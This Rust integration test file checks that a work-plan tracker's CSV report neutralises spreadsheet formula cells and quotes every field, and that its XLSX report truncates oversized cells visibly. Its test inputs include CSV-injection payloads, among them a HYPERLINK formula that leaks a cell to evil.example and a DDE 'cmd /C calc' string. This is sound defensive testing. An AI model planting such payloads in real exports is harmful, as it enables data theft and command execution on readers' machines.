//! Exports that do not attack their reader: the consolidated report's CSV neutralises
//! cells a spreadsheet would run as formulas and quotes every field, and its XLSX keeps
//! within Excel's cell limit instead of failing (see docs/security.md, "Exports").

use axum::http::{Method, StatusCode};
use calamine::{Reader, Xlsx};
use serde_json::{Value, json};
use wpt_domain::Role;
use wpt_tests::{Caller, TestApp};

const PLAN: &str = "MSWP-TIP-2023-2028";

/// Excel's limit on a cell's text, in UTF-16 code units.
const EXCEL_CELL_MAX: usize = 32_767;

fn plan_id() -> String {
    wpt_domain::reference_id("work_plan", PLAN).to_string()
}

/// Creates the activities (`(code, title, actip_reference)`, all led by DGICM) and an
/// open cycle; DGICM reports `entries` (one per activity, in order, each without its
/// `activity_id`), submits, and the secretariat accepts. Returns the secretariat and
/// the cycle's id.
async fn accepted_cycle(
    app: &TestApp,
    activities: &[(&str, &str, Option<&str>)],
    entries: Vec<Value>,
) -> (Caller, String) {
    let sec = app.caller(Role::Secretariat, None).await;
    let dgicm = app.caller(Role::Officer, Some("DGICM")).await;
    let mut ids = Vec::new();
    for (code, title, reference) in activities {
        let res = app
            .request(
                Method::POST,
                &format!("/api/v1/work-plans/{}/activities", plan_id()),
            )
            .bearer(&sec.token)
            .json(&json!({"area": &code[..1], "code": code, "title": title,
                          "actip_reference": reference, "lead_body": "DGICM", "cooperating_bodies": []}))
            .send()
            .await;
        res.assert_status(StatusCode::CREATED);
        ids.push(res.json()["id"].as_str().expect("id").to_owned());
    }
    let created = app
        .request(Method::POST, "/api/v1/cycles")
        .bearer(&sec.token)
        .json(&json!({"work_plan_id": plan_id(), "kind": "somtc", "name": "27th SOMTC", "meeting_date": "2099-06-20",
                      "period_start": "2098-07-01", "period_end": "2099-06-30", "opens_on": "2026-01-01"}))
        .send()
        .await;
    created.assert_status(StatusCode::CREATED);
    let cycle = created.json()["id"].as_str().expect("id").to_owned();
    app.request(Method::POST, &format!("/api/v1/cycles/{cycle}/open"))
        .bearer(&sec.token)
        .send()
        .await
        .assert_status(StatusCode::OK);

    let path = format!("/api/v1/cycles/{cycle}/submissions/DGICM");
    let etag = |res: &wpt_tests::TestResponse| res.header("etag").expect("etag").to_owned();
    let seen = app.get_as(&dgicm.token, &path).await;
    seen.assert_status(StatusCode::OK);
    let entries: Vec<Value> = entries
        .into_iter()
        .zip(&ids)
        .map(|(mut e, id)| {
            e["activity_id"] = json!(id);
            e
        })
        .collect();
    let saved = app
        .request(Method::PUT, &path)
        .bearer(&dgicm.token)
        .header("if-match", &etag(&seen))
        .json(&json!({ "entries": entries }))
        .send()
        .await;
    saved.assert_status(StatusCode::OK);
    app.request(Method::POST, &format!("{path}/submit"))
        .bearer(&dgicm.token)
        .header("if-match", &etag(&saved))
        .send()
        .await
        .assert_status(StatusCode::OK);
    let seen = app.get_as(&sec.token, &path).await;
    app.request(Method::POST, &format!("{path}/accept"))
        .bearer(&sec.token)
        .header("if-match", &etag(&seen))
        .send()
        .await
        .assert_status(StatusCode::OK);
    (sec, cycle)
}

/// Splits raw CSV text into its fields, honouring quotes, to see how each was written.
fn raw_fields(text: &str) -> Vec<String> {
    let mut fields = Vec::new();
    let mut field = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                field.push_str("\"\"");
                chars.next();
            }
            '"' => {
                quoted = !quoted;
                field.push(c);
            }
            ',' | '\n' if !quoted => fields.push(std::mem::take(&mut field)),
            _ => field.push(c),
        }
    }
    if !field.is_empty() {
        fields.push(field);
    }
    fields
}

#[tokio::test]
async fn the_csv_report_neutralises_formula_cells_and_quotes_every_field() {
    let app = TestApp::spawn().await;
    let hyperlink = r#"=HYPERLINK("https://evil.example/?d="&A2,"x")"#;
    let (sec, cycle) = accepted_cycle(
        &app,
        &[
            ("A.a.1", "－1+2 workshop", Some("-2+3")),
            ("A.a.2", "Ordinary title", Some("ACTIP 4.2")),
            ("B.a.1", "Regional dialogue = shared agenda", None),
        ],
        vec![
            json!({"status": "on_track", "percent_complete": 45, "narrative": hyperlink,
                   "challenges": "+1", "next_steps": "@SUM(A1)"}),
            json!({"status": "at_risk", "narrative": "\tcmd|' /C calc'!A0",
                   "challenges": "\r=1+1", "next_steps": "＝1+1"}),
            json!({"status": "delayed", "percent_complete": 0, "narrative": "Venue confirmed in Manila",
                   "challenges": "＋1", "next_steps": "＠SUM(A1)"}),
        ],
    )
    .await;

    let res = app
        .get_as(
            &sec.token,
            &format!("/api/v1/cycles/{cycle}/report?format=csv"),
        )
        .await;
    res.assert_status(StatusCode::OK);
    let text = String::from_utf8(res.body.clone()).expect("utf-8");

    // Every field, the header's too, is quoted in the raw text.
    let fields = raw_fields(&text);
    assert!(fields.len() >= 4 * 14, "header and three rows: {fields:?}");
    for f in &fields {
        assert!(
            f.len() >= 2 && f.starts_with('"') && f.ends_with('"'),
            "every field is quoted: {f:?} in\n{text}"
        );
    }

    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .expect("header")
        .iter()
        .map(str::to_owned)
        .collect();
    let col = |name: &str| header.iter().position(|h| h == name).expect(name);
    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("record")).collect();
    let row = |code: &str| {
        records
            .iter()
            .find(|r| r[col("activity_code")] == *code)
            .unwrap_or_else(|| panic!("a row for {code}"))
            .clone()
    };

    let a1 = row("A.a.1");
    assert_eq!(&a1[col("activity_title")], "'－1+2 workshop");
    assert_eq!(&a1[col("actip_reference")], "'-2+3");
    assert_eq!(&a1[col("narrative")], format!("'{hyperlink}"));
    assert_eq!(&a1[col("challenges")], "'+1");
    assert_eq!(&a1[col("next_steps")], "'@SUM(A1)");
    assert_eq!(
        &a1[col("percent_complete")],
        "45",
        "numbers the tracker writes are not prefixed"
    );

    let a2 = row("A.a.2");
    assert_eq!(&a2[col("activity_title")], "Ordinary title");
    assert_eq!(&a2[col("actip_reference")], "ACTIP 4.2");
    assert_eq!(&a2[col("narrative")], "'\tcmd|' /C calc'!A0");
    assert_eq!(&a2[col("challenges")], "'\r=1+1");
    assert_eq!(&a2[col("next_steps")], "'＝1+1");
    assert_eq!(&a2[col("percent_complete")], "");

    let b1 = row("B.a.1");
    assert_eq!(
        &b1[col("activity_title")],
        "Regional dialogue = shared agenda",
        "ordinary text is unchanged"
    );
    assert_eq!(&b1[col("narrative")], "Venue confirmed in Manila");
    assert_eq!(&b1[col("challenges")], "'＋1");
    assert_eq!(&b1[col("next_steps")], "'＠SUM(A1)");
    assert_eq!(&b1[col("percent_complete")], "0");
    assert_eq!(&b1[col("status")], "delayed");
    assert_eq!(&b1[col("body")], "DGICM");

    // The JSON report keeps the text as it was written.
    let json_report = app
        .get_as(&sec.token, &format!("/api/v1/cycles/{cycle}/report"))
        .await
        .json();
    assert!(
        json_report
            .to_string()
            .contains(r#""narrative":"=HYPERLINK("#)
    );
}

#[tokio::test]
async fn the_xlsx_report_truncates_text_over_the_cell_limit_visibly_instead_of_failing() {
    let app = TestApp::spawn().await;
    // 19,000 characters, within the entry's limit, are 38,000 UTF-16 units.
    let emoji = "😀".repeat(19_000);
    // Twenty links of 2,000 characters, each within its limit, joined in one cell.
    let links: Vec<String> = (0..20)
        .map(|i| format!("https://example.org/{i:02}/{}", "a".repeat(1_977)))
        .collect();
    assert!(links.iter().all(|l| l.len() == 2_000));
    let (sec, cycle) = accepted_cycle(
        &app,
        &[
            ("A.a.1", "Long report", None),
            ("A.a.2", "Short report", None),
        ],
        vec![
            json!({"status": "on_track", "narrative": emoji, "challenges": "Fits", "evidence_urls": links}),
            json!({"status": "at_risk", "narrative": "=1+1 stays a string"}),
        ],
    )
    .await;

    let res = app
        .get_as(
            &sec.token,
            &format!("/api/v1/cycles/{cycle}/report?format=xlsx"),
        )
        .await;
    res.assert_status(StatusCode::OK);
    let mut book: Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(res.body.clone())).expect("an xlsx");
    let matrix = book.worksheet_range("Matrix").expect("matrix");
    let header: Vec<String> = matrix
        .rows()
        .next()
        .expect("header")
        .iter()
        .map(|c| c.to_string())
        .collect();
    let col = |name: &str| header.iter().position(|h| h == name).expect(name);
    let row = |code: &str| {
        matrix
            .rows()
            .find(|r| r[col("Code")] == code)
            .unwrap_or_else(|| panic!("a row for {code}"))
            .iter()
            .map(|c| c.to_string())
            .collect::<Vec<String>>()
    };

    let long = row("A.a.1");
    let narrative = &long[col("Progress")];
    let units = narrative.encode_utf16().count();
    assert!(
        units <= EXCEL_CELL_MAX,
        "within Excel's limit: {units} units"
    );
    assert!(
        units > EXCEL_CELL_MAX - 200,
        "as much as fits is kept: {units} units"
    );
    let (kept, marker) = narrative
        .split_once(" [truncated: ")
        .expect("a visible marker");
    let kept = kept
        .strip_suffix('…')
        .expect("an ellipsis before the marker");
    assert!(
        kept.chars().all(|c| c == '😀'),
        "cut at a character boundary"
    );
    let omitted = 19_000 - kept.chars().count();
    assert_eq!(
        marker,
        format!("{omitted} more characters; full text in the JSON report]")
    );
    assert_eq!(&long[col("Challenges")], "Fits", "other cells are whole");
    let evidence = &long[col("Evidence")];
    assert!(evidence.encode_utf16().count() <= EXCEL_CELL_MAX);
    assert!(evidence.starts_with(&links[0]));
    assert!(evidence.contains("[truncated: "));

    let short = row("A.a.2");
    assert_eq!(
        &short[col("Progress")],
        "=1+1 stays a string",
        "user text is written as a string, never as a formula"
    );

    // The full text stays in the JSON report, and the CSV has it whole.
    let json_report = app
        .get_as(&sec.token, &format!("/api/v1/cycles/{cycle}/report"))
        .await
        .json();
    assert!(json_report.to_string().contains(&emoji));
    let csv = app
        .get_as(
            &sec.token,
            &format!("/api/v1/cycles/{cycle}/report?format=csv"),
        )
        .await;
    csv.assert_status(StatusCode::OK);
    assert!(
        String::from_utf8(csv.body.clone())
            .expect("utf-8")
            .contains(&emoji)
    );
}
